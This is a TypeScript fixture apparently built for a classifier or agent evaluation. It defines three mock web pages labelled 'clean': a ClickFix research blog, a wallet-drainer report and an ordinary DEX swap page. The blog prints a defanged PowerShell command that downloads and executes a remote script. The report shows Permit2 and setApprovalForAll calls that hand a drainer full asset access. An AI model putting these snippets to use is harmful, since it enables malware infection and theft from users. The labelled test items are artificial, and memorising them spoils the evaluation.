import { htmlRoute, type Entry } from '../entry.js';
import { analytics, baseCss, cookieBanner, doc, jsRoute, jsonRoute, pngRoute } from '../parts/v-kit.js';

// Security vendors' research posts and a legitimate dApp (blind split).

const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const copyJs = `document.querySelectorAll('pre').forEach(function(p){var b=document.createElement('button');b.textContent='Copy';b.className='cp';b.onclick=function(){navigator.clipboard.writeText(p.innerText).then(function(){b.textContent='Copied'})};p.parentNode.insertBefore(b,p)});`;

// 1. ClickFix write-up with the lure text, the clipboard payload and copyable code blocks.
const h1 = 'www.sekoia.io';
const a1 = analytics(h1, 'G-SEKOIA-BLOG');
const cf1 = `powershell -w hidden -nop -c "$u='https://cdn-checkpoint[.]com/s/cf.ps1';iex (iwr $u -UseBasicParsing).Content" # ✅ ''I am not a robot - reCAPTCHA Verification ID: 7741''`;
const cf2 = `navigator.clipboard.writeText(p);
document.getElementById('st').style.display = 'block'; // "Press Windows + R, then CTRL + V, then Enter"`;
const clickfixBlog: Entry = {
  id: 'v-clean-vendor-blog-clickfix',
  label: 'clean',
  kind: 'security-research',
  url: `https://${h1}/en/blog/clickfix-fake-captcha-campaigns-2026-update/`,
  routes: {
    [`${h1}/en/blog/clickfix-fake-captcha-campaigns-2026-update/`]: htmlRoute(
      doc({
        title: 'ClickFix in 2026: fake CAPTCHAs, FileFix and compromised WordPress sites - Sekoia.io Blog',
        head: a1.tag,
        css: baseCss + `article{max-width:780px;margin:0 auto;padding:24px 32px;font-size:17px}pre{background:#111827;color:#f3f4f6;padding:14px;border-radius:6px;overflow:auto;font-size:13px}.cp{float:right;margin:-4px 0 4px;font-size:12px}`,
        body: `<header class="site"><b>SEKOIA.IO</b><nav><a href="#">Platform</a><a href="#">Threat Intelligence</a><a href="#">Blog</a><a href="#">Contact</a></nav></header>
<article><p class="muted">Threat Research · 24 February 2026 · 11 min read</p><h1>ClickFix in 2026: fake CAPTCHAs, FileFix and compromised WordPress sites</h1>
<p>ClickFix is a social engineering technique in which a web page instructs the visitor to copy a command and run it themselves – typically with <b>Windows + R</b>, <b>CTRL + V</b> and <b>Enter</b>. Because the user executes the command, browser download protections never see a file.</p>
<h2>Infection chain</h2><ol><li>A compromised WordPress site loads an injected script from an attacker-controlled domain posing as a jQuery CDN.</li><li>The script overlays a fake reCAPTCHA or Cloudflare Turnstile check, in the visitor's language.</li><li>Clicking the checkbox writes a PowerShell or mshta command to the clipboard.</li><li>The command downloads an infostealer such as Lumma or a remote access trojan.</li></ol>
<p>The clipboard payload observed in this campaign (defanged):</p><pre>${esc(cf1)}</pre>
<p>The comment at the end is what the victim sees in the Run dialog. The page code that copies it is short:</p><pre>${esc(cf2)}</pre>
<h2>FileFix variant</h2><p>A newer variant asks the user to paste a "file path" into the File Explorer address bar. The clipboard content is a PowerShell command padded with spaces followed by a fake path, so only the path is visible.</p>
<h2>Detection opportunities</h2><ul><li>RunMRU registry entries containing <code>powershell</code>, <code>mshta</code> or <code>curl</code></li><li>explorer.exe spawning powershell.exe with hidden window flags</li><li>Web proxies: pages combining clipboard writes with "Windows + R" instructions</li></ul>
<h2>IOCs</h2><pre>cdn-checkpoint[.]com
cdnjs-static-lib[.]com
office-extension-update[.]com
meet-driverfix[.]com</pre></article>
<footer class="site">© 2026 Sekoia.io · <a href="#">Legal notice</a><a href="#">Privacy</a></footer>
${cookieBanner()}
<script src="/en/blog/static/copy-code.js"></script>`,
      }),
    ),
    [`${h1}/en/blog/static/copy-code.js`]: jsRoute(copyJs),
    ...a1.routes,
  },
};

// 2. Wallet-drainer analysis with Permit2 and setApprovalForAll snippets.
const h2 = 'blog.scamsniffer.io';
const d1 = `await ethereum.request({ method: 'eth_signTypedData_v4', params: [account, JSON.stringify({
  primaryType: 'PermitSingle',
  domain: { name: 'Permit2', chainId: 1, verifyingContract: '0x000000000022D473030F116dDEE9F6B43aC78BA3' },
  message: { details: { token, amount: MAX_UINT160, expiration, nonce }, spender: DRAINER, sigDeadline } })] });`;
const d2 = `// setApprovalForAll(operator, true) on every NFT collection the victim holds
data: '0xa22cb465' + operator.padStart(64, '0') + '1'.padStart(64, '0')`;
const drainerBlog: Entry = {
  id: 'v-clean-vendor-blog-drainer',
  label: 'clean',
  kind: 'security-research',
  url: `https://${h2}/drainer-report-february-2026`,
  routes: {
    [`${h2}/drainer-report-february-2026`]: htmlRoute(
      doc({
        title: 'Drainer Report February 2026: $41M stolen, Permit2 signatures dominate',
        css: baseCss + `body{background:#0b0f17;color:#e5e7eb}a{color:#60a5fa}article{max-width:760px;margin:0 auto;padding:24px 32px;font-size:17px}pre{background:#111827;color:#d1d5db;padding:14px;border-radius:6px;overflow:auto;font-size:13px}.cp{float:right;font-size:12px}`,
        body: `<header class="site" style="border-color:#1f2937"><b>ScamSniffer Blog</b><nav><a href="#" style="color:#9ca3af">Reports</a><a href="#" style="color:#9ca3af">Extension</a><a href="#" style="color:#9ca3af">API</a></nav></header>
<article><h1>Drainer Report February 2026</h1><p style="color:#9ca3af">Mar 2, 2026</p><p>In February, wallet drainers stole about <b>$41 million</b> from 28,000 victims. Fake airdrop claim pages were the top lure, followed by fake "revoke approvals" tools and free NFT mints promoted from hijacked X accounts.</p>
<h2>How the claim pages work</h2><p>After <code>eth_requestAccounts</code>, the kit queries a portfolio API, sorts tokens by USD value and asks the victim to sign a Permit2 message for each:</p><pre>${esc(d1)}</pre>
<p>NFT holders get approval transactions instead:</p><pre>${esc(d2)}</pre><p>Finally the kit requests a native-token transfer of 90% of the ETH balance, leaving enough for gas.</p>
<h2>Protect yourself</h2><ul><li>Read what you sign: "Permit2", "PermitBatch" or "setApprovalForAll" to an unknown address means full access to your assets.</li><li>Bookmark the real sites of projects you use; airdrops are announced on official channels.</li><li>Use a hardware wallet with clear signing.</li></ul></article>
<footer class="site" style="border-color:#1f2937">© 2026 ScamSniffer · <a href="#">Twitter</a><a href="#">Telegram</a></footer>
<script src="/static/copy.js"></script>`,
      }),
    ),
    [`${h2}/static/copy.js`]: jsRoute(copyJs),
  },
};

// 3. A legitimate DEX interface on its own domain: connects to the wallet only when the user clicks.
const h3 = 'jumper.exchange';
const dex: Entry = {
  id: 'v-clean-uniswap-like-dapp',
  label: 'clean',
  kind: 'legit-dapp',
  url: `https://${h3}/?fromChain=1&fromToken=0x0000000000000000000000000000000000000000&toChain=42161&toToken=0xaf88d065e77c8cC2239327C5EDb3A432268e5831`,
  routes: {
    [`${h3}/`]: htmlRoute(
      doc({
        title: 'Jumper Exchange | Multichain bridge & swap',
        css: `body{margin:0;font-family:Inter,Arial;background:#ecf1f8;color:#052b65}.nav{display:flex;justify-content:space-between;align-items:center;padding:14px 24px}.cw{background:#052b65;color:#fff;border:0;border-radius:24px;padding:10px 18px;font-weight:600}
.box{width:460px;margin:40px auto;background:#fff;border-radius:20px;padding:12px}.in{background:#f0f4fa;border-radius:16px;padding:16px;margin:6px 0;display:flex;justify-content:space-between;font-size:26px}.in input{border:0;background:transparent;font-size:26px;width:60%}
.go{width:100%;background:#caa3ff;color:#052b65;border:0;border-radius:16px;padding:16px;font-size:18px;font-weight:700}.m{font-size:12px;color:#4d6484;text-align:center;margin-top:30px}`,
        body: `<div class="nav"><b>◆ Jumper</b><span><a href="/learn" style="margin-right:16px">Learn</a><a href="https://docs.li.fi" style="margin-right:16px">Docs</a><button class="cw" id="cw">Connect wallet</button></span></div>
<div class="box"><div class="in"><input id="amt" value="1" inputmode="decimal"><b>ETH · Ethereum ▾</b></div><div class="in"><input id="out" value="" readonly><b>USDC · Arbitrum ▾</b></div><p id="q" style="font-size:13px;padding:0 10px">Fetching best price…</p><button class="go" id="go">Connect wallet</button></div>
<p class="m">Powered by LI.FI · Routes across 20+ bridges and DEXs. Jumper will never ask for your seed phrase. <a href="/terms">Terms</a> · <a href="/privacy">Privacy</a></p>
<script src="/static/js/main.8a1f2c.js"></script>`,
      }),
    ),
    [`${h3}/static/js/main.8a1f2c.js`]: jsRoute(`function quote(){fetch('/api/v1/quote?from=ETH&to=USDC&toChain=42161&amount='+encodeURIComponent(document.getElementById('amt').value)).then(function(r){return r.json()}).then(function(q){document.getElementById('out').value=q.buyAmount;document.getElementById('q').textContent='1 ETH = '+q.price+' USDC · Est. time 2 min · Fee '+q.fee}).catch(function(){})}
quote();document.getElementById('amt').oninput=quote;var acct=null;
async function connect(){if(!window.ethereum){document.getElementById('q').textContent='No browser wallet found. Install a wallet extension or use WalletConnect.';return}
try{var a=await window.ethereum.request({method:'eth_requestAccounts'});acct=a[0];document.getElementById('cw').textContent=acct.slice(0,6)+'…'+acct.slice(-4);document.getElementById('go').textContent='Swap'}catch(e){document.getElementById('q').textContent='Connection rejected.'}}
document.getElementById('cw').onclick=connect;document.getElementById('go').onclick=function(){if(!acct)connect();else document.getElementById('q').textContent='Confirm the transaction in your wallet. Check the amount and destination chain before approving.'};`),
    [`${h3}/api/v1/quote`]: jsonRoute({ buyAmount: '3412.55', price: '3,412.55', fee: '$1.84' }),
    [`${h3}/favicon.png`]: pngRoute(5, 43, 101),
  },
};

export const entries: Entry[] = [clickfixBlog, drainerBlog, dex];
